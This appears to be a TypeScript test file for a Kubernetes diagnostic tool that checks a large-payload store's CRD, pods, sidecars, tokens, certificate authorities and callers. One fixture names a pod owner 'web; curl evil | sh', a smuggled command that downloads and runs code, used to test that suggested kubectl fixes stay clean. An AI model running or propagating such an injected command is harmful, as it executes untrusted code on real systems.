import { ABSENT, found } from './reading.ts';
import { checkRows, type Row } from './rows.fixture.ts';
import {
  configMap,
  documents,
  EXPIRED,
  injected,
  operator,
  pod,
  withPods,
  withStore,
} from './situation.fixture.ts';

const UNSERVED = { kind: 'unserved' } as const;
const withSpec = (spec: object) => withStore({ resource: found(documents(spec)) });
const ownedBy = (kind: string, name: string) => {
  const worker = pod('worker-2');
  const owner = { apiVersion: 'apps/v1', kind, name, uid: '2', controller: true };
  return { ...worker, metadata: { ...worker.metadata, ownerReferences: [owner] } };
};
const waiting = (reason: string, message?: string) => ({
  ...injected('worker-1'),
  status: {
    phase: 'Pending',
    initContainerStatuses: [{ name: 'large-payload-sidecar', state: { waiting: { reason, message } } }],
  },
});
const direct = (audience: string) =>
  pod('starter', {
    containers: [
      {
        name: 'starter',
        env: [{ name: 'LARGE_PAYLOAD_SERVICE_URL', value: 'https://documents-gateway.orders.svc:8577' }],
      },
    ],
    volumes: [{ name: 'token', projected: { sources: [{ serviceAccountToken: { audience } }] } }],
  });

const STORE: readonly Row[] = [
  [
    'no CustomResourceDefinition',
    withStore({ resource: UNSERVED }),
    ...(['store', 'problem', 'CustomResourceDefinition', 'helm install'] as const),
  ],
  [
    'a misspelt store',
    withStore({ resource: ABSENT, others: found(['document', 'images']) }),
    ...(['store', 'problem', 'did you mean "document"?', '--namespace orders get'] as const),
  ],
  [
    'a store that is not there, beside others',
    withStore({ resource: ABSENT, others: found(['images']) }),
    ...(['store', 'problem', 'orders has images'] as const),
  ],
  [
    'a store that allows other namespaces',
    withSpec({ allowedNamespaces: ['shop'] }),
    ...(['store', 'problem', 'does not allow', '{"spec":{"allowedNamespaces":["shop","billing"]}}'] as const),
  ],
  [
    'a spec that cannot be read',
    withSpec({ retention: { ttl: 'soon' } }),
    ...(['store', 'problem', 'spec.retention.ttl'] as const),
  ],
  [
    'pods of before the label',
    withPods(injected('worker-1'), pod('worker-2'), pod('worker-3')),
    ...([
      'pods',
      'problem',
      'pods worker-2, worker-3: it has no sidecar',
      'rollout restart deployment/worker',
    ] as const),
  ],
  [
    'a pod whose owner has a command for a name',
    withPods(ownedBy('StatefulSet', 'web; curl evil | sh')),
    ...(['pods', 'problem', 'pod worker-2', /^kubectl -n billing delete pod worker-2$/] as const),
  ],
  [
    'many pods without a sidecar',
    withPods(...['a', 'b', 'c', 'd', 'e'].map((name) => pod(name))),
    ...(['pods', 'problem', 'pods a, b, c and 2 more'] as const),
  ],
  [
    'pods with an older sidecar',
    {
      ...withPods(injected('worker-1')),
      operator: found(operator(['--injection=Webhook', '--image=new:2'])),
    },
    ...(['pods', 'warning', 'pod worker-1', 'rollout restart'] as const),
  ],
  [
    'a pod on the network of its node',
    withPods(pod('worker-1', { hostNetwork: true })),
    ...(['pods', 'warning', 'hostNetwork'] as const),
  ],
  ['no pods', withPods(), 'pods', 'warning', 'no pod that runs'],
  [
    'a sidecar whose image cannot be pulled',
    withPods(waiting('ImagePullBackOff', 'pull access denied')),
    ...(['sidecars', 'problem', 'pull access denied', '--container large-payload-sidecar'] as const),
  ],
  [
    'a pod that uses the gateway by the token of another store',
    withPods(injected('worker-1'), direct('largepayload.dev/orders/images')),
    ...(['token', 'problem', 'no token with the audience largepayload.dev/orders/documents'] as const),
  ],
  [
    'a pod that uses the gateway by a token of its own',
    withPods(injected('worker-1'), direct('largepayload.dev/orders/documents')),
    ...(['token', 'ok', 'without a sidecar'] as const),
  ],
  [
    'no ConfigMap with the authority',
    withStore({ workersCa: ABSENT }),
    ...(['certificates', 'problem', 'documents.orders-ca is not in billing'] as const),
  ],
  [
    'an authority that has expired',
    withStore({ workersCa: found(configMap('documents.orders-ca', 'billing', EXPIRED)) }),
    ...(['certificates', 'problem', 'valid now', 'delete configmap'] as const),
  ],
  [
    'a ConfigMap without a certificate',
    withStore({ workersCa: found(configMap('documents.orders-ca', 'billing', 'x')) }),
    ...(['certificates', 'problem', 'no certificate'] as const),
  ],
  [
    'another authority than that of the store',
    withStore({ ownCa: found(configMap('documents-ca', 'orders', EXPIRED)) }),
    ...(['certificates', 'warning', 'other certificates'] as const),
  ],
  [
    'callers without the service account of the pods',
    withSpec({ callers: [{ serviceAccounts: ['billing/other'] }] }),
    ...(['callers', 'problem', 'billing/default', 'edit largepayloadstore'] as const),
  ],
  [
    'callers that may only read',
    withSpec({ callers: [{ namespaces: ['billing'], access: 'Read' }] }),
    ...(['callers', 'warning', 'put none'] as const),
  ],
  [
    'gateways that ask for no token',
    withSpec({ gateway: { authentication: 'None' } }),
    ...(['callers', 'warning', 'authentication None'] as const),
  ],
];

checkRows('the store', STORE);
